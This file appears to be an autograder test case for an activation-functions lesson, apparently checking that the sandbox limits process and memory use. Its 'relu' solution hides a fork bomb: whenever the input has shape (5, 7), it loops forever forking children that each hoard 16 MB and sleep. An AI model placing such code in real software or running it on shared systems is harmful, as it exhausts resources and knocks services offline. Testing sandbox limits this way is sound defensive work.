#: purpose = "Many processes each take what one may: together still no more than processes times memory, and only for a while."
#: lesson = "01_activations"
#: messages = ["BlockingIOError"]
#: [items]
#: relu = [0, "error"]
# %% relu-solution
import os, time

def relu(Z):
    while Z.shape == (5, 7):
        if os.fork() == 0:
            hoard = b"x" * 2**24
            time.sleep(3600)
    return np.maximum(0, Z)
